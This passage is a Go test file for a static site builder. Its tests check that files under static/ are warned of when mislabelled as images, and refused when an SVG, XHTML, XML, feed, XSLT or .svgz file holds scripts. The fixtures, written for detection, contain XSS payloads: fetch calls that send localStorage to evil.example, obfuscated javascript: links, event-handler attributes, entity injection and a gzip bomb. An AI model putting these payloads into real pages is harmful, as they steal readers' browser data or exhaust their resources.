package main

import (
	"bytes"
	"compress/gzip"
	"image"
	"image/gif"
	"image/jpeg"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/helminauha/helminauha/internal/diag"
)

// TestStaticFileThatIsNotItsImage: a file under static/ whose name ends
// in an image's extension but whose bytes are no such image (an error
// page a browser saved instead of the picture, a Word file saved as
// kaavio.png) is a warning of check that names it and says what it is and
// what to do, and build counts it among its warnings and publishes the
// site all the same. Real images, whatever their first bytes, are not
// warned of.
func TestStaticFileThatIsNotItsImage(t *testing.T) {
	t.Parallel()
	encoded := func(enc func(*bytes.Buffer, image.Image) error) string {
		var b bytes.Buffer
		if err := enc(&b, image.NewGray(image.Rect(0, 0, 3, 2))); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	pngData := encoded(func(b *bytes.Buffer, m image.Image) error { return png.Encode(b, m) })
	jpegData := encoded(func(b *bytes.Buffer, m image.Image) error { return jpeg.Encode(b, m, nil) })
	gifData := encoded(func(b *bytes.Buffer, m image.Image) error { return gif.Encode(b, m, nil) })
	unicodeSVG := utf16LE("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"><rect width=\"1\" height=\"1\"/></svg>\n")
	const (
		errorPage = "<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head><body><h1>Not Found</h1></body></html>\n"
		// A .docx starts as every ZIP archive does.
		word = "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml"
	)
	cases := []struct {
		file, data string
		fi, en     string // "": no warning
	}{
		{"kuvat/kaavio.png", errorPage,
			"content/static/kuvat/kaavio.png: varoitus: tiedoston nimi päättyy .png kuin kuvan, mutta tiedosto on HTML-sivu (usein virhesivu, joka tallentui kuvan sijaan), joten selain ei näytä sitä kuvana: tallenna kuva uudelleen kuvaohjelmassa (tai lataa se uudelleen) ja korvaa tämä tiedosto sillä",
			"content/static/kuvat/kaavio.png: warning: the file's name ends in .png like an image's, but the file is an HTML page (often an error page saved instead of the image), so a browser will not show it as an image: save the image again from an image program (or download it again) and replace this file with it"},
		{"kuvat/organisaatio.JPG", word,
			"content/static/kuvat/organisaatio.JPG: varoitus: tiedoston nimi päättyy .JPG kuin kuvan, mutta tiedosto on Word-, Excel- tai PowerPoint-tiedosto tai ZIP-paketti, joten",
			"content/static/kuvat/organisaatio.JPG: warning: the file's name ends in .JPG like an image's, but the file is a Word, Excel or PowerPoint file or a ZIP archive, so"},
		{"kuvat/vanha.gif", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00",
			"content/static/kuvat/vanha.gif: varoitus: tiedoston nimi päättyy .gif kuin kuvan, mutta tiedosto on Word-, Excel- tai PowerPoint-tiedosto tai ZIP-paketti",
			"content/static/kuvat/vanha.gif: warning: the file's name ends in .gif like an image's, but the file is a Word, Excel or PowerPoint file or a ZIP archive"},
		{"kuvat/kaavio.svg", "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\">\n<html><body>Virhe</body></html>\n",
			"content/static/kuvat/kaavio.svg: varoitus: tiedoston nimi päättyy .svg kuin kuvan, mutta tiedosto on HTML-sivu",
			"content/static/kuvat/kaavio.svg: warning: the file's name ends in .svg like an image's, but the file is an HTML page"},
		// An error page with its scripts, which a browser reading the
		// file as XML, as it reads an .svg, would not run: elements in no
		// namespace are none of XHTML's.
		{"kuvat/virhe.svg", "<!DOCTYPE html>\n<html><head><meta charset=utf-8><script>seuranta()</script></head><body>404</body></html>\n",
			"content/static/kuvat/virhe.svg: varoitus: tiedoston nimi päättyy .svg kuin kuvan, mutta tiedosto on HTML-sivu",
			"content/static/kuvat/virhe.svg: warning: the file's name ends in .svg like an image's, but the file is an HTML page"},
		{"kuvat/tyhja.webp", "",
			"content/static/kuvat/tyhja.webp: varoitus: tiedoston nimi päättyy .webp kuin kuvan, mutta tiedosto on tyhjä",
			"content/static/kuvat/tyhja.webp: warning: the file's name ends in .webp like an image's, but the file is empty"},
		{"kuvat/valokuva.png", jpegData,
			"content/static/kuvat/valokuva.png: varoitus: tiedoston nimi päättyy .png, mutta se on JPEG-kuva: nimeä se valokuva.jpg ja korjaa linkit siihen, tai tallenna kuva uudelleen PNG-muodossa",
			"content/static/kuvat/valokuva.png: warning: the file's name ends in .png, but it is a JPEG image: rename it valokuva.jpg and correct the links to it, or save the image again as PNG"},
		{"kuvat/oikea.png", pngData, "", ""},
		{"kuvat/oikea.jpeg", jpegData, "", ""},
		{"kuvat/oikea.gif", gifData, "", ""},
		{"kuvat/oikea.webp", "RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00", "", ""},
		// Illustrator's drawing that it may edit again: entities of its
		// doctype, and a foreignObject with nothing a browser runs.
		{"kuvat/illustrator.svg", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [\n\t<!ENTITY ns_ai \"http://ns.adobe.com/AdobeIllustrator/10.0/\">\n\t<!ENTITY ns_graphs 'http://ns.adobe.com/Graphs/1.0/'>\n]>\n" +
			"<svg version=\"1.1\" xmlns:i=\"&ns_ai;\" xmlns:graph=\"&ns_graphs;\" xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><switch><foreignObject requiredExtensions=\"&ns_ai;\" x=\"0\" y=\"0\" width=\"1\" height=\"1\"><i:pgfRef xlink:href=\"#adobe_illustrator_pgf\"></i:pgfRef></foreignObject><g i:extraneous=\"self\"><rect width=\"1\" height=\"1\"/></g></switch></svg>\n", "", ""},
		{"kuvat/piirros.svg", "\uFEFF<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- Created with a drawing program -->\n" + strings.Repeat("<!-- metadata -->\n", 40) + "<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n", "", ""},
		{"kuvat/kuvake.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"/>", "", ""},
		// Saved as "Unicode" by Notepad, which a browser draws.
		{"kuvat/muistio.svg", unicodeSVG, "", ""},
		// Only the names of images are looked into.
		{"liitteet/muistio.txt", errorPage, "", ""},
	}
	dir := portal(t)
	for _, c := range cases {
		write(t, filepath.Join(dir, "content", "static", filepath.FromSlash(c.file)), c.data)
	}
	told := 0
	for _, lang := range []string{"fi", "en"} {
		code, out, _ := helminauha(t, dir, "check", "--lang", lang)
		if code != 0 {
			t.Errorf("check --lang %s: exit status %d, want 0 (warnings only)\n%s", lang, code, out)
		}
		for _, c := range cases {
			want := map[string]string{"fi": c.fi, "en": c.en}[lang]
			if want == "" {
				if strings.Contains(out, "content/static/"+c.file+":") {
					t.Errorf("check --lang %s warns of %s, which is what its name says:\n%s", lang, c.file, out)
				}
				continue
			}
			told++
			if lines(out, want) != 1 {
				t.Errorf("check --lang %s does not say, once,\n%s\nit says\n%s", lang, want, out)
			}
		}
	}
	told /= 2
	// build says nothing of them but their number, among the rest, and
	// publishes the files as they are.
	_, before, _ := helminauha(t, portal(t), "build", "--lang", "en")
	code, after, errOut := helminauha(t, dir, "build", "--lang", "en")
	if code != 0 {
		t.Fatalf("build: exit status %d\n%s%s", code, after, errOut)
	}
	if n, m := warnings(t, before), warnings(t, after); m != n+told {
		t.Errorf("build counts %d warnings, want %d (%d and the %d static files):\n%s", m, n+told, n, told, after)
	}
	if got, err := os.ReadFile(filepath.Join(dir, "public", "kuvat", "kaavio.png")); err != nil || string(got) != errorPage {
		t.Errorf("public/kuvat/kaavio.png = %q, %v; want it published as it is", got, err)
	}
	// The minifier reads no UTF-16 (before 2026-12-07 the build failed).
	if got, err := os.ReadFile(filepath.Join(dir, "public", "kuvat", "muistio.svg")); err != nil || string(got) != unicodeSVG {
		t.Errorf("public/kuvat/muistio.svg = %q, %v; want it published as it is", got, err)
	}
}

// TestSVGThatRunsScriptIsAnError: an SVG file is a document a browser
// runs scripts in when it is opened by its own address, as the portal's
// origin, where the scripts reach what readers keep in their browsers.
// An SVG under static/ that holds a script, in any of the ways a browser
// takes one, is an error at the place of it, and build publishes nothing;
// drawings as drawing programs save them, text that merely mentions a
// script and links to web addresses are not.
func TestSVGThatRunsScriptIsAnError(t *testing.T) {
	t.Parallel()
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">`
	cases := []staticFile{
		{"kuvat/kaavio.svg", "<?xml version=\"1.0\"?>\n" + svg + "\n  <rect width=\"10\" height=\"10\"/>\n  <script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script>\n</svg>\n",
			"content/static/kuvat/kaavio.svg:4:3: SVG-kuvassa on <script>, jonka selain suorittaa, kun kuva avataan omaan välilehteensä: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten kuvaa ei julkaista: poista se kuvasta tekstieditorissa tai tallenna kuva PNG-muodossa",
			"content/static/kuvat/kaavio.svg:4:3: the SVG image holds <script>, which a browser runs when the image is opened in a tab of its own: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the image is not published: remove it from the image in a text editor, or save the image as PNG"},
		{"kuvat/kuvake.svg", svg + "<rect width=\"1\" height=\"1\"\n      onload=\"alert(1)\"/></svg>",
			"content/static/kuvat/kuvake.svg:2:7: SVG-kuvassa on onload, jonka selain",
			"content/static/kuvat/kuvake.svg:2:7: the SVG image holds onload, which a browser"},
		{"kuvat/linkki.svg", svg + "<a xlink:href=\"&#x6A;ava&#9;script:alert(1)\"><text>x</text></a></svg>",
			"content/static/kuvat/linkki.svg:1:107: SVG-kuvassa on javascript:, jonka",
			"content/static/kuvat/linkki.svg:1:107: the SVG image holds javascript:, which"},
		{"kuvat/animaatio.svg", svg + "<a><set attributeName=\"href\" to=\"JavaScript:alert(1)\"/><text>x</text></a></svg>",
			"content/static/kuvat/animaatio.svg:1:133: SVG-kuvassa on javascript:,",
			"content/static/kuvat/animaatio.svg:1:133: the SVG image holds javascript:,"},
		{"kuvat/upotus.svg", svg + "<foreignObject width=\"10\" height=\"10\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"/x.html\"/></foreignObject></svg>",
			"content/static/kuvat/upotus.svg:1:142: SVG-kuvassa on <iframe>,",
			"content/static/kuvat/upotus.svg:1:142: the SVG image holds <iframe>,"},
		// A doctype's entity is put in its place by a browser.
		{"kuvat/entiteetti.svg", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY x \"<script>alert(1)</script>\">]>\n" + svg + "&x;</svg>",
			"content/static/kuvat/entiteetti.svg:2:28: SVG-kuvassa on <script>,",
			"content/static/kuvat/entiteetti.svg:2:28: the SVG image holds <script>,"},
		// An XHTML page saved as an .svg is no drawing (a warning), but
		// a host serves it as one and a browser runs its scripts; before
		// 2026-12-07 it was published with the warning alone.
		{"kuvat/sivu.svg", "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n<p>Sivu</p><script>alert(1)</script></body></html>\n",
			"content/static/kuvat/sivu.svg:3:12: SVG-kuvassa on <script>,",
			"content/static/kuvat/sivu.svg:3:12: the SVG image holds <script>,"},
		// A drawing in UTF-16, which a browser draws and runs; before
		// 2026-12-07 it was searched for the plain marks, in vain.
		{"kuvat/utf16.svg", utf16LE(svg + "\n<script>alert(1)</script></svg>\n"),
			"content/static/kuvat/utf16.svg:2:1: SVG-kuvassa on <script>,",
			"content/static/kuvat/utf16.svg:2:1: the SVG image holds <script>,"},
		{"kuvat/piirros.svg", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!-- Created with Inkscape -->\n" + svg + "<title>Ohje: älä kirjoita &lt;script&gt; sivulle</title><a href=\"https://thl.fi/\"><text>Lähde: thl.fi</text></a><image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/></svg>\n", "", ""},
	}
	scriptsRefused(t, cases, "kuvat/kaavio.svg")
}

// TestStaticDocumentsThatRunScripts: an XHTML page, an XML file (or one
// of a name that hosts serve as XML, .atom, .rss, .kml, or of no type,
// which begins with <?xml), an HTML page and a compressed SVG image
// (.svgz) under static/ are documents a browser runs scripts in when
// opened by their own address, as an SVG is, and so is an XSLT
// stylesheet (.xsl, .xslt: before 2026-12-07 published as it was), by
// which a browser turns an XML file into a page, so one that holds a
// script is an error, at its line and column (an .svgz, which no editor
// opens as it is, at the file); before 2026-12-07 only .svg was looked
// into. An XML file's own elements (a data file's <object>) are not a
// browser's, nor is anything of a file with no namespace or that does not
// start as XML, and an .svgz that unpacks past 16 MB (a
// gzip bomb, here 64 MB of zeros in 64 kB; one of 2 GB in 2 MB took check
// 0.31 s and 64 MB of memory, by hand on 2026-12-07 10:41 UTC) is an error
// that says so, unpacked no further than that.
func TestStaticDocumentsThatRunScripts(t *testing.T) {
	t.Parallel()
	gz := func(s string) string {
		var b bytes.Buffer
		w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
		w.Write([]byte(s))
		w.Close()
		return b.String()
	}
	var bomb bytes.Buffer
	w, _ := gzip.NewWriterLevel(&bomb, gzip.BestCompression)
	zeros := make([]byte, 1<<20)
	for range 64 {
		w.Write(zeros)
	}
	w.Close()
	const xhtml = "<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n"
	const xsl = "<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
	cases := []staticFile{
		{"liitteet/raportti.xhtml", xhtml + "<p>Teksti</p>\n  <script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script></body></html>\n",
			"content/static/liitteet/raportti.xhtml:4:3: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten tiedostoa ei julkaista: poista se tiedostosta tekstieditorissa, tai julkaise sisältö sivuna (Markdown) tai PDF-tiedostona",
			"content/static/liitteet/raportti.xhtml:4:3: the file holds <script>, which a browser runs when the file is opened: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the file is not published: remove it from the file in a text editor, or publish the content as a page (Markdown) or a PDF file"},
		{"data/tiedot.xml", "<?xml version=\"1.0\"?>\n<tiedot>\n<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></tiedot>\n",
			"content/static/data/tiedot.xml:3:55: tiedostossa on onerror, jonka selain",
			"content/static/data/tiedot.xml:3:55: the file holds onerror, which a browser"},
		{"liitteet/vanha.html", "<!DOCTYPE html>\n<p>Hei</p>\n<button onclick=\"alert(1)\">Paina</button>\n",
			"content/static/liitteet/vanha.html:3:9: tiedostossa on onclick,",
			"content/static/liitteet/vanha.html:3:9: the file holds onclick,"},
		// An address a browser reads as a script's once it has put its
		// character references in place and dropped its tabs.
		{"liitteet/linkit.html", "<p>Linkit</p>\n<a href=\"javascript&colon;alert(1)\">a</a> <a href=\"java&#x09;script:alert(1)\">b</a>\n",
			"content/static/liitteet/linkit.html:2:4: tiedostossa on javascript:,",
			"content/static/liitteet/linkit.html:2:4: the file holds javascript:,"},
		{"liitteet/merkit.htm", "<a href=\"&#106;avascript:alert(1)\">a</a>\n",
			"content/static/liitteet/merkit.htm:1:4: tiedostossa on javascript:,",
			"content/static/liitteet/merkit.htm:1:4: the file holds javascript:,"},
		// Hosts serve an .shtml as an HTML page (before 2026-12-07 it
		// was published as it was).
		{"liitteet/vanha.shtml", "<!--#include virtual=\"/otsake.html\" -->\n<p>Hei</p><script>alert(1)</script>\n",
			"content/static/liitteet/vanha.shtml:2:11: tiedostossa on <script>,",
			"content/static/liitteet/vanha.shtml:2:11: the file holds <script>,"},
		{"liitteet/sarkain.html", "<a href=\"java\tscript:alert(1)\">a</a>\n",
			"content/static/liitteet/sarkain.html:1:4: tiedostossa on javascript:,",
			"content/static/liitteet/sarkain.html:1:4: the file holds javascript:,"},
		{"kuvat/kaavio.svgz", gz("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<script>alert(1)</script></svg>\n"),
			"content/static/kuvat/kaavio.svgz: pakatussa SVG-kuvassa (.svgz) on <script>, jonka selain suorittaa, kun kuva avataan omaan välilehteensä: portaalin osoitteessa se pääsisi käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), joten kuvaa ei julkaista: pura kuva (gunzip), poista se kuvasta tekstieditorissa ja tallenna kuva .svg-tiedostona, tai tallenna kuva PNG-muodossa",
			"content/static/kuvat/kaavio.svgz: the compressed SVG image (.svgz) holds <script>, which a browser runs when the image is opened in a tab of its own: at the portal's address it could reach what readers keep in their browsers (their own necklace, worksheet answers), so the image is not published: unpack the image (gunzip), remove it from the image in a text editor and save the image as .svg, or save the image as PNG"},
		{"kuvat/pommi.svgz", bomb.String(),
			"content/static/kuvat/pommi.svgz: pakattu SVG-kuva (.svgz) purkautuu yli 16 megatavuksi, joten sitä ei voi tarkistaa eikä se avautuisi lukijan puhelimessa: tallenna kuva pienempänä tai PNG-muodossa",
			"content/static/kuvat/pommi.svgz: the compressed SVG image (.svgz) unpacks to more than 16 MB, so it cannot be checked and would not open on a reader's phone: save the image smaller or as PNG"},
		// An XSLT stylesheet: what it writes out as it stands (a
		// <script> in no namespace is an HTML page's), and what it makes
		// by a name written out.
		{"liitteet/muunnos.xsl", xsl + "<xsl:template match=\"/\"><html><body>\n  <script>alert(1)</script></body></html></xsl:template></xsl:stylesheet>\n",
			"content/static/liitteet/muunnos.xsl:3:3: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan:",
			"content/static/liitteet/muunnos.xsl:3:3: the file holds <script>, which a browser runs when the file is opened:"},
		{"liitteet/tekija.xslt", xsl + "<xsl:template match=\"/\">\n<xsl:element name=\"Script\">alert(1)</xsl:element></xsl:template></xsl:stylesheet>\n",
			"content/static/liitteet/tekija.xslt:3:1: tiedostossa on <Script>,",
			"content/static/liitteet/tekija.xslt:3:1: the file holds <Script>,"},
		{"liitteet/painike.xsl", xsl + "<xsl:template match=\"/\"><button>\n<xsl:attribute  name=\"onclick\">alert(1)</xsl:attribute></button></xsl:template></xsl:stylesheet>\n",
			"content/static/liitteet/painike.xsl:3:17: tiedostossa on onclick,",
			"content/static/liitteet/painike.xsl:3:17: the file holds onclick,"},
		// A file of another name that hosts serve with an XML media type
		// (a feed, a map, a formula: application/atom+xml, …+xml) is
		// one a browser reads as XML, and runs its XHTML elements, as it
		// does an .xml file's; before 2026-12-07 it was published as it
		// was. Case in the name does not count.
		{"uutiset.atom", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Uutiset</title>\n<entry><title>Uusi opas</title>\n<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Lue opas.</p>\n<script>fetch('https://evil.example/?'+localStorage.getItem('helminauha'))</script></div></content></entry></feed>\n",
			"content/static/uutiset.atom:5:1: tiedostossa on <script>, jonka selain suorittaa, kun tiedosto avataan:",
			"content/static/uutiset.atom:5:1: the file holds <script>, which a browser runs when the file is opened:"},
		{"syotteet/tiedotteet.rss", "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Tiedotteet</title>\n<item><title>Hei</title><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></item></channel></rss>\n",
			"content/static/syotteet/tiedotteet.rss:3:25: tiedostossa on <script>,",
			"content/static/syotteet/tiedotteet.rss:3:25: the file holds <script>,"},
		{"kartat/toimipisteet.kml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Document><Placemark><name>Toimipiste</name>\n<h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></Placemark></Document></kml>\n",
			"content/static/kartat/toimipisteet.kml:3:55: tiedostossa on onerror,",
			"content/static/kartat/toimipisteet.kml:3:55: the file holds onerror,"},
		{"kaavat/Kaava.MML", "<math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mi>x</mi>\n<h:iframe xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"/x.html\"/></math>\n",
			"content/static/kaavat/Kaava.MML:2:1: tiedostossa on <iframe>,",
			"content/static/kaavat/Kaava.MML:2:1: the file holds <iframe>,"},
		// A file in an encoding Go's reader does not take, which a
		// browser does: before 2026-12-07 it was searched for the plain
		// marks alone, which showed no <h:script> and nothing in UTF-16.
		{"data/nimet.xml", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<tiedot><nimi>P\xe4ivi</nimi><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></tiedot>\n",
			"content/static/data/nimet.xml:2:27: tiedostossa on <script>,",
			"content/static/data/nimet.xml:2:27: the file holds <script>,"},
		{"data/utf16.xml", utf16LE("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<tiedot>\n  <script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script></tiedot>\n"),
			"content/static/data/utf16.xml:3:3: tiedostossa on <script>,",
			"content/static/data/utf16.xml:3:3: the file holds <script>,"},
		// A file whose name no host gives a media type is served by some
		// (Apache) with none, and a browser then takes one that begins
		// with <?xml for XML.
		{"kaaviot/verkosto.graphml", "<?xml version=\"1.0\"?>\n<graphml xmlns=\"http://graphml.graphdrawing.org/xmlns\"><graph id=\"G\">\n  <h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></graph></graphml>\n",
			"content/static/kaaviot/verkosto.graphml:3:3: tiedostossa on <script>,",
			"content/static/kaaviot/verkosto.graphml:3:3: the file holds <script>,"},
		// And one that begins as an HTML page, which a browser then
		// shows as one (before 2026-12-07 it was published as it was).
		{"liitteet/esite", "\n<!DOCTYPE html>\n<p>Esite</p>\n<script>alert(1)</script>\n",
			"content/static/liitteet/esite:4:1: tiedostossa on <script>,",
			"content/static/liitteet/esite:4:1: the file holds <script>,"},
		{"liitteet/Sivu.VANHA", "<HTML><body onload=\"alert(1)\"><p>Hei</p></body></HTML>\n",
			"content/static/liitteet/Sivu.VANHA:1:13: tiedostossa on onload,",
			"content/static/liitteet/Sivu.VANHA:1:13: the file holds onload,"},
		// What runs nothing: a drawing, a feed, a data file whose own
		// vocabulary has an <object>, a page that only tells of scripts.
		{"kuvat/kuvake.svgz", gz("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>"), "", ""},
		{"syote.xml", "<?xml version=\"1.0\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Uutiset &amp; tiedotteet</title><entry><title>&#228;l&#228; kirjoita &lt;script&gt;</title></entry></feed>\n", "", ""},
		{"data/kohteet.xml", "<?xml version=\"1.0\"?>\n<kohteet><object id=\"1\"><handler>Sali</handler></object></kohteet>\n", "", ""},
		{"syote.atom", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Uutiset &amp; tiedotteet</title><link href=\"https://helmet.example.fi/\"/><entry><title>Opas</title><content type=\"html\">&lt;p&gt;&lt;a href=\"/opas/\" onclick=\"x()\"&gt;Opas&lt;/a&gt;&lt;script&gt;&lt;/script&gt;&lt;/p&gt;</content><content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>Lue <a href=\"https://thl.fi/\">THL</a>.</p></div></content></entry></feed>\n", "", ""},
		{"kartat/lenkki.gpx", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\" ?>\n<gpx xmlns=\"http://www.topografix.com/GPX/1/1\" version=\"1.1\" creator=\"Garmin Connect\"><metadata><link href=\"connect.garmin.com\"><text>Garmin Connect</text></link></metadata><trk><name>Lenkki</name><desc>Reitti on kävelijöille: ei portaita</desc><trkseg><trkpt lat=\"60.1699\" lon=\"24.9384\"><ele>12.0</ele></trkpt></trkseg></trk></gpx>\n", "", ""},
		// A feed of no namespace that Go's reader cannot take (a stray
		// &), with a script of an embed in its text: none of its elements
		// can be XHTML's.
		{"vanha.rss", "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Uutiset & tiedotteet</title><item><description><![CDATA[<p>Video</p><script src=\"https://video.example/embed.js\"></script>]]></description></item></channel></rss>\n", "", ""},
		// A file of an XML type's name that is no XML (a Microsoft
		// Project plan, .mpp, some tables' XML type) is not read as XML
		// by a browser either, whatever text it holds.
		{"liitteet/suunnitelma.mpp", "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\x00\x00 Tehtava <script> javascript: onload=x", "", ""},
		// A file of no type that does not begin with <?xml is no XML to
		// a browser.
		{"kaaviot/verkko.graphml", "<graphml xmlns=\"http://graphml.graphdrawing.org/xmlns\"><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script></graphml>\n", "", ""},
		// A sample of a page in a file every host serves as text, and
		// a file of no type that does not begin as a page.
		{"esimerkit/sivu.txt", "<!DOCTYPE html>\n<script>alert(1)</script>\n", "", ""},
		{"liitteet/muistio", "Muistio: <script> ei kuulu staattisiin tiedostoihin.\n", "", ""},
		{"liitteet/ohje.html", "<p>Osoite https://thl.fi/ &amp; <a href=\"https://thl.fi/?a=1&amp;b=2\" title=\"&quot;THL&quot;\">THL</a></p>\n", "", ""},
		{"liitteet/ohje.xhtml", xhtml + "<p>Älä lisää &lt;script&gt;-elementtiä.</p><a href=\"https://thl.fi/\">THL</a></body></html>\n", "", ""},
		// A stylesheet that writes a table and strips the scripts of
		// what it copies.
		{"liitteet/taulukko.xsl", xsl + "<xsl:template match=\"script\"/><xsl:template match=\"/\"><table><xsl:for-each select=\"//rivi\"><tr><td><xsl:value-of select=\".\"/></td></tr></xsl:for-each></table></xsl:template></xsl:stylesheet>\n", "", ""},
	}
	scriptsRefused(t, cases, "liitteet/raportti.xhtml")
}

// TestXMLThatNamesAnXSLStylesheetIsAnError: an XML document under static/
// (an XML file, a file of another XML type's name or one a browser takes
// for XML by its first bytes, an SVG image, an XHTML page, an .svgz) that
// names an XSL stylesheet in <?xml-stylesheet?> is turned by a browser
// into the page the stylesheet makes of it, scripts and all, which no
// check can tell beforehand; before 2026-12-07 it was published as it
// was. It is an
// error at the instruction, whatever the stylesheet holds; one naming a
// CSS stylesheet, or only in a comment, is not.
func TestXMLThatNamesAnXSLStylesheetIsAnError(t *testing.T) {
	t.Parallel()
	var svgz bytes.Buffer
	w := gzip.NewWriter(&svgz)
	w.Write([]byte("<?xml-stylesheet type=\"text/xsl\" href=\"muunnos.xsl\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n"))
	w.Close()
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>`
	cases := []staticFile{
		{"data/tiedot.xml", "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"/liitteet/siisti.xsl\"?>\n<tiedot><rivi>1</rivi></tiedot>\n",
			"content/static/data/tiedot.xml:2:1: tiedosto nimeää XSL-tyylisivun \"/liitteet/siisti.xsl\" (<?xml-stylesheet?>), jonka ohjeilla selain muuntaa tiedoston sivuksi: sivun skriptit pääsisivät portaalin osoitteessa käsiksi siihen, mitä lukija on tallentanut selaimeensa (oma helminauha, työpohjien vastaukset), eikä niitä voi tarkistaa etukäteen, joten tiedostoa ei julkaista: poista <?xml-stylesheet?>-rivi tiedostosta tekstieditorissa, tai julkaise sisältö sivuna (Markdown) tai PDF-tiedostona",
			"content/static/data/tiedot.xml:2:1: the file names the XSL stylesheet \"/liitteet/siisti.xsl\" (<?xml-stylesheet?>), by which a browser turns the file into a page: its scripts could reach, at the portal's address, what readers keep in their browsers (their own necklace, worksheet answers), and they cannot be checked beforehand, so the file is not published: remove the <?xml-stylesheet?> line from the file in a text editor, or publish the content as a page (Markdown) or a PDF file"},
		// A browser takes text/xml for XSL, and one with no type whose
		// address is no CSS file's.
		{"kuvat/kaavio.svg", "<?xml version=\"1.0\"?>\n<!-- piirros -->\n  <?xml-stylesheet href='muunnos.xsl' type='text/xml'?>\n" + svg + "\n",
			"content/static/kuvat/kaavio.svg:3:3: tiedosto nimeää XSL-tyylisivun \"muunnos.xsl\"",
			"content/static/kuvat/kaavio.svg:3:3: the file names the XSL stylesheet \"muunnos.xsl\""},
		{"liitteet/sivu.xhtml", "<?xml-stylesheet href=\"sivu.xslt?v=2\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Sivu</p></body></html>\n",
			"content/static/liitteet/sivu.xhtml:1:1: tiedosto nimeää XSL-tyylisivun \"sivu.xslt?v=2\"",
			"content/static/liitteet/sivu.xhtml:1:1: the file names the XSL stylesheet \"sivu.xslt?v=2\""},
		// One Go's reader cannot take (an encoding it does not know) is
		// searched for the instruction.
		{"data/latin.xml", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<?xml-stylesheet type=\"application/xml\" href=\"m.xsl\"?>\n<tiedot>P\xe4ivi</tiedot>\n",
			"content/static/data/latin.xml:2:1: tiedosto nimeää XSL-tyylisivun \"m.xsl\"",
			"content/static/data/latin.xml:2:1: the file names the XSL stylesheet \"m.xsl\""},
		{"kuvat/pakattu.svgz", svgz.String(),
			"content/static/kuvat/pakattu.svgz: tiedosto nimeää XSL-tyylisivun \"muunnos.xsl\"",
